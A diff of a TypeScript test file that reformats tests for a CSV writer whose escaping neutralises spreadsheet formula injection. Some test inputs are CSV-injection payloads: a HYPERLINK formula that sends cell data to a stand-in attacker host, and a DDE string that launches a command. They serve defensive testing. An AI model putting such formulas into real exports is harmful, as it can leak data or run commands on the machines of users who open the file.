@@ -72,7 +72,16 @@ describe("toCsv", () => {
   });
 
   test("null is an empty cell", () => {
-    assert.equal(toCsv([{ header: "a", value: () => null }, { header: "b", value: () => 1 }], [{}]), "a,b\r\n,1\r\n");
+    assert.equal(
+      toCsv(
+        [
+          { header: "a", value: () => null },
+          { header: "b", value: () => 1 },
+        ],
+        [{}],
+      ),
+      "a,b\r\n,1\r\n",
+    );
   });
 
   test("numbers are written as they are, negative numbers stay numbers", () => {
@@ -90,14 +99,23 @@ describe("toCsv", () => {
     assert.equal(cellOf("-2"), "'-2");
     assert.equal(cellOf("@x"), "'@x");
     assert.equal(cellOf("\tx"), "'\tx");
-    assert.equal(toCsv([{ header: "v", value: (r: string) => r }], ["\rx"]), "v\r\n\"'\rx\"\r\n");
+    assert.equal(toCsv([{ header: "v", value: (r: string) => r }], ["\rx"]), 'v\r\n"\'\rx"\r\n');
     // Neutralised and quoted together.
-    assert.equal(cellOf("=1,2"), "\"'=1,2\"");
+    assert.equal(cellOf("=1,2"), '"\'=1,2"');
     assert.equal(cellOf('=HYPERLINK("http://evil.example/?"&A1,"click")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
     assert.equal(cellOf("-cmd|' /C calc'!A0"), "'-cmd|' /C calc'!A0");
   });
 
   test("headers are neutralised and quoted too", () => {
-    assert.equal(toCsv([{ header: "=cmd", value: () => 1 }, { header: "a,b", value: () => 2 }], []), "'=cmd,\"a,b\"\r\n");
+    assert.equal(
+      toCsv(
+        [
+          { header: "=cmd", value: () => 1 },
+          { header: "a,b", value: () => 2 },
+        ],
+        [],
+      ),
+      '\'=cmd,"a,b"\r\n',
+    );
   });
 });
